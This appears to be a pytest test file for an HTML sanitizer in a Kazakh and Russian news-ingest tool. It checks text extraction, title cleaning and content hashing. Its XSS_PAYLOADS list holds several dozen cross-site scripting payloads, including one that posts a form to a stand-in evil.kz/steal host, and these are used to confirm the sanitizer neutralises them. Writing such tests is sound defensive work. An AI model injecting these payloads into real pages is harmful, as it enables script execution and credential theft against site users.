import random
import re

import pytest
from lxml import html as lxml_html

from workstation.core.ingest.normalize import (
    ALLOWED_TAGS,
    MAX_INPUT_CHARS,
    clean_title,
    content_hash,
    html_to_text,
    sanitize_html,
    sanitize_with_text,
)

BASE = "https://news.kz/kk/article/1"
DANGEROUS_ATTRIBUTE_PREFIXES = ("on",)
DANGEROUS_SCHEMES = ("javascript:", "vbscript:", "data:")


def assert_harmless(cleaned: str) -> None:
    """Parse the output as a browser would and check what is left: only allowed tags, safe attributes."""
    if not cleaned.strip():
        return
    for element in lxml_html.fragment_fromstring(cleaned, create_parent="div").iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag == "div" or element.tag in ALLOWED_TAGS, element.tag
        for name, value in element.attrib.items():
            assert not name.lower().startswith(DANGEROUS_ATTRIBUTE_PREFIXES), name
            assert name != "style"
            assert not value.strip().lower().startswith(DANGEROUS_SCHEMES), value
    for word in ("<script", "<iframe", "<svg", "<object", "<embed", "<style", "<form", "<meta", "<math"):
        assert word not in cleaned.lower()


# Payloads in the spirit of the feedparser and feedvalidator hostile-feed corpora.
XSS_PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="java\x00script:alert(1)">nul</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="pic">',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
    '<iframe src="http://example.com/"> <b>description</b></iframe>',
    "<script>alert(1)</script>",
    "<script\n\n>alert(1)</script\n\n>",
    "<scr<script>ipt>alert(1)</script>",
    '<p style="width: expression(alert(1))">expr</p>',
    '<div style="background-image:url(javascript:alert(1))">bg</div>',
    "<style>@import 'http://evil.kz/x.css'; body{background:url(javascript:alert(1))}</style>",
    '<meta http-equiv="Refresh" content="0; URL=http://example.com/">',
    '<object classid="clsid:C932BA85-4374-101B-A56C-00AA003668DC"><embed src="x.swf"></object>',
    '<form action="https://evil.kz/steal"><input name="pin"><button>Send</button></form>',
    '<a onsubmit="doevil()" onclick="doevil()" onmouseover="doevil()">clickme</a>',
    '<body onload="executeMe();"><div notRealAttribute="value"onmouseover="executeMe();"foo="bar">x</div></body>',
    '<noscript><img src=x onerror=alert(1)></noscript>',
    '<base href="javascript:alert(1)//"><a href="x">base</a>',
    '<link rel="stylesheet" href="http://evil.kz/x.css">',
    "<!--<script>alert(1)</script>-->",
    '<img src="x" srcset="javascript:alert(1) 1x">',
    '<a href="https://ok.kz/" target="_blank" rel="opener">opener</a>',
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_xss_payloads_are_neutralised(payload):
    assert_harmless(sanitize_html(payload, BASE))
    assert_harmless(sanitize_html(payload))


def test_event_handler_is_dropped_but_the_image_kept():
    assert sanitize_html('<img src="https://cdn.kz/a.jpg" onerror="alert(1)" alt="Сурет">') == \
        '<img src="https://cdn.kz/a.jpg" alt="Сурет">'


def test_javascript_link_keeps_its_text_but_loses_its_target():
    cleaned = sanitize_html('<a href="javascript:alert(1)">Толығырақ</a>')
    assert "href" not in cleaned
    assert "Толығырақ" in cleaned


def test_script_and_iframe_content_is_dropped_entirely():
    cleaned = sanitize_html('safe<script>location.href="//evil.kz"</script> text<iframe src="//x"><b>in</b></iframe>')
    assert cleaned == "safe text"


def test_style_attribute_is_dropped():
    assert sanitize_html('<p style="position:fixed;top:0">Мәтін</p>') == "<p>Мәтін</p>"


def test_links_get_noopener_noreferrer_nofollow():
    cleaned = sanitize_html('<a href="https://gov.kz/">gov</a>')
    assert cleaned == '<a href="https://gov.kz/" rel="noopener noreferrer nofollow">gov</a>'


def test_only_http_https_and_mailto_links_survive():
    cleaned = sanitize_html('<a href="ftp://x.kz/">f</a><a href="tel:+77010000000">t</a>'
                            '<a href="mailto:a@gov.kz">m</a>')
    assert cleaned.count("href=") == 1
    assert 'href="mailto:a@gov.kz"' in cleaned


def test_relative_links_and_images_are_resolved_against_the_article():
    cleaned = sanitize_html('<a href="/ru/5g">5G</a><img src="img/a.png"><a href="//cdn.kz/x">cdn</a>', BASE)
    assert 'href="https://news.kz/ru/5g"' in cleaned
    assert 'src="https://news.kz/kk/article/img/a.png"' in cleaned
    assert 'href="https://cdn.kz/x"' in cleaned


def test_base_element_in_the_content_cannot_redirect_links():
    cleaned = sanitize_html('<base href="https://evil.kz/"><a href="page">x</a>', BASE)
    assert 'href="https://news.kz/kk/article/page"' in cleaned


def test_relative_links_without_a_web_base_are_dropped():
    for base in (None, "", "file:///home/analyst/feed.xml", "javascript:alert(1)"):
        cleaned = sanitize_html('<a href="/ru/5g">5G</a><img src="a.png" alt="a">', base)
        assert "href" not in cleaned and "src" not in cleaned, base


def test_disallowed_tags_are_unwrapped_keeping_their_text():
    assert sanitize_html("<article><font color=red>Маңызды</font> <marquee>хабар</marquee></article>") == \
        "Маңызды хабар"


def test_table_spans_and_image_sizes_are_clamped_to_numbers():
    cleaned = sanitize_html('<table><tr><td colspan="1000000" rowspan="x">a</td></tr></table>'
                            '<img src="https://cdn.kz/a.png" width="120px" height="expression(1)">')
    assert 'colspan="100"' in cleaned and "rowspan" not in cleaned
    assert 'width="120"' in cleaned and "height" not in cleaned


def test_allowed_attributes_are_kept():
    cleaned = sanitize_html('<time datetime="2025-01-06T10:15:00+05:00">6 қаңтар</time>'
                            '<abbr title="Ақпарат министрлігі">АМ</abbr><a href="https://a.kz" title="t">a</a>')
    assert 'datetime="2025-01-06T10:15:00+05:00"' in cleaned
    assert 'title="Ақпарат министрлігі"' in cleaned
    assert 'title="t"' in cleaned


def test_full_page_keeps_only_the_body():
    page = ("<!DOCTYPE html><html><head><title>Сайт</title><meta charset=koi8-r>"
            "<script>track()</script></head><body><h1>Жаңалық</h1><p>Мәтін</p></body></html>")
    assert sanitize_html(page) == "<h1>Жаңалық</h1><p>Мәтін</p>"


def test_kazakh_and_russian_text_survive_untouched():
    source = "<p>Қазақстан Республикасы &laquo;Ақпарат&raquo; — информация &amp; факты</p>"
    assert sanitize_html(source) == "<p>Қазақстан Республикасы «Ақпарат» — информация &amp; факты</p>"


def test_plain_text_with_angle_brackets_is_escaped_not_lost():
    assert sanitize_html("ставка < 5% и > 3%") == "ставка &lt; 5% и &gt; 3%"


def test_sanitizing_twice_changes_nothing():
    once = sanitize_html('<p onclick=x>a <a href="/b">b</a><img src=c onerror=d></p><script>e</script>', BASE)
    assert sanitize_html(once, BASE) == once


def garbage_inputs():
    rng = random.Random(20250106)
    yield ""
    yield "\x00" * 100
    yield "<p>a\x00b\x01c\x1fd</p>"
    yield "<<<<>>>><</</p>>&&&&#;&#xZZ;&#99999999;"
    yield "\ud800<p>lone surrogate\udfff</p>"
    yield bytes(rng.randrange(256) for _ in range(50_000)).decode("latin-1")
    yield "<div>" * 200_000 + "deep"
    yield "<ul><li>" * 100_000
    yield "<table><tr><td>" * 50_000
    yield "<a href='x'>" * 10_000
    yield "<p>" + "Қазақстан " * (MAX_INPUT_CHARS // 5) + "</p>"
    yield '<?xml version="1.0" encoding="koi8-r"?><p>Привет</p>'
    yield "<![CDATA[<script>alert(1)</script>]]>"
    yield "<p title='unterminated>text"


@pytest.mark.parametrize("garbage", list(garbage_inputs()), ids=lambda g: repr(g[:20]))
def test_garbage_never_raises_and_comes_out_harmless(garbage):
    cleaned = sanitize_html(garbage, BASE)
    assert_harmless(cleaned)
    assert len(html_to_text(garbage)) <= MAX_INPUT_CHARS
    assert len(html_to_text(cleaned)) <= MAX_INPUT_CHARS
    assert "\x00" not in html_to_text(garbage) + clean_title(garbage)
    assert len(clean_title(garbage)) <= 1000


def test_content_after_deeply_nested_markup_is_kept():
    source = "<div>" * 1000 + "ішінде" + "</div>" * 1000 + "<p>кейін</p>"
    assert html_to_text(source) == "ішінде\nкейін"
    assert "кейін" in sanitize_html(source)


def test_non_string_input_gives_empty_output():
    assert sanitize_html(None) == "" and html_to_text(None) == "" and clean_title(None) == ""


def test_oversized_input_is_cut():
    text = html_to_text("<p>" + "а" * (MAX_INPUT_CHARS + 1000) + "</p>")
    assert len(text) <= MAX_INPUT_CHARS


# --- html_to_text ------------------------------------------------------------------------------------


def test_blocks_become_lines_and_inline_tags_join_words():
    source = ("<h1>Жалған ұтыс</h1><p>Банк атынан <b>ұтыс</b> ойыны өткізілмейді.</p>"
              "<ul><li>Бірінші</li><li>Екінші</li></ul>Соңы<br>жол")
    assert html_to_text(source) == "Жалған ұтыс\nБанк атынан ұтыс ойыны өткізілмейді.\nБірінші\nЕкінші\nСоңы\nжол"


def test_words_split_only_by_inline_tags_stay_one_word():
    assert html_to_text("<p>Қаз<b>ақ</b>стан</p>") == "Қазақстан"


def test_script_style_and_head_content_is_not_text():
    page = ("<html><head><title>Title</title><style>p{color:red}</style></head><body>"
            "<p>Мошенники</p><script>var x = 1;</script><noscript>Enable JS</noscript><p>звонят</p></body></html>")
    assert html_to_text(page) == "Мошенники\nзвонят"


def test_entities_are_decoded_and_whitespace_collapsed():
    assert html_to_text("<p>  Фейк&nbsp;о&nbsp;5G \n\t &laquo;вышках&raquo;   &amp; &#1179;</p>") == \
        "Фейк о 5G «вышках» & қ"


def test_source_newlines_are_spaces_but_pre_keeps_its_lines():
    assert html_to_text("<p>бір\nекі</p><pre>line 1\nline 2</pre>") == "бір екі\nline 1\nline 2"


def test_table_cells_are_separated():
    assert html_to_text("<table><tr><th>Ай</th><th>Саны</th></tr><tr><td>Қаңтар</td><td>743</td></tr></table>") \
        == "Ай Саны\nҚаңтар 743"


@pytest.mark.parametrize(("text", "expected"), [
    ("a < b", "a < b"),
    ("AT&T", "AT&T"),
    ("Бірінші жол\nЕкінші   жол\n\n", "Бірінші жол\nЕкінші жол"),
    ("5 &lt; 6", "5 < 6"),
])
def test_text_that_is_not_html(text, expected):
    assert html_to_text(text) == expected


ONE_PARSE_SAMPLES = [
    "<section><p>бір</p>екі<article>үш</article></section><aside>төрт</aside>",
    "<p>a<textarea>hidden</textarea><select><option>x</option></select>b</p><noembed>n</noembed><xmp>x</xmp>",
    "<table><tr><td>1</td><td>2</td></tr><tr><th>3</th></tr></table>after",
    "<pre>line 1\nline 2\n  <b>bold\n</b>tail</pre> and\nspaces",
    "plain text\nwith its lines\n\nand &amp; an entity",
    "<div><header>Заголовок</header><main>Мәтін<br>жол</main><footer>f</footer></div>",
    "<html><head><title>T</title><style>s{}</style></head><body><h1>H</h1><p>P</p></body></html>",
    "<p>unclosed <b>bold <i>both</p><p>next",
    "<math><mi>x</mi></math><svg><text>s</text></svg><frameset><frame></frameset><applet>a</applet>visible",
]


@pytest.mark.parametrize("source", ONE_PARSE_SAMPLES + XSS_PAYLOADS + list(garbage_inputs())[:6] + ["", "   "])
def test_one_parse_gives_the_sanitized_html_and_its_text(source):
    assert sanitize_with_text(source, BASE) == (sanitize_html(source, BASE), html_to_text(sanitize_html(source, BASE)))


def test_one_parse_gives_the_same_text_on_every_body_of_the_corpus(corpus):
    import feedparser

    from workstation.core.ingest.parse import _entry_html

    bodies = [_entry_html(entry) for path in sorted(corpus.glob("world/real/*"))
              for entry in feedparser.parse(path.read_bytes(), sanitize_html=False).entries]
    assert len(bodies) > 1000
    for body in bodies:
        clean = sanitize_html(body, BASE)
        assert sanitize_with_text(body, BASE) == (clean, html_to_text(clean))


def test_text_of_sanitized_html_equals_text_of_the_original():
    source = '<div><h2>Хабарлама</h2><p>Сілтеме: <a href="/x">мұнда</a></p><script>x()</script></div>'
    assert html_to_text(sanitize_html(source, BASE)) == html_to_text(source) == "Хабарлама\nСілтеме: мұнда"


# --- clean_title ---------------------------------------------------------------------------------------


def test_title_entities_decoded_tags_stripped_whitespace_collapsed():
    assert clean_title("  Фейк &amp; <b>правда</b>\n о&nbsp;5G ") == "Фейк & правда о 5G"


def test_title_script_is_dropped():
    assert clean_title("<script>alert(1)</script>Жалған ұтыс") == "Жалған ұтыс"


def test_title_with_a_less_than_sign_keeps_it():
    assert clean_title("Ставка < 5%: что известно") == "Ставка < 5%: что известно"


def test_title_is_cut_to_a_thousand_characters():
    assert len(clean_title("ұ" * 5000)) == 1000


def test_missing_title_is_empty():
    assert clean_title(None) == "" and clean_title("   ") == ""


# --- content_hash ---------------------------------------------------------------------------------------


def test_content_hash_ignores_spacing_and_case():
    assert content_hash("  ФЕЙК   о 5G ", "Текст\n\nстатьи") == content_hash("Фейк о 5G", "текст статьи")


def test_content_hash_ignores_unicode_composition():
    assert content_hash("Жалған", "Информаци\u0438\u0306") == content_hash("Жалған", "Информаций")


def test_content_hash_separates_title_from_text():
    assert content_hash("ab", "c") != content_hash("a", "bc")


def test_content_hash_changes_with_the_text():
    assert content_hash("Фейк", "бір") != content_hash("Фейк", "екі")


def test_content_hash_is_sha256_hex():
    assert re.fullmatch("[0-9a-f]{64}", content_hash("", ""))
    assert re.fullmatch("[0-9a-f]{64}", content_hash("Фейк о 5G", "Текст статьи"))
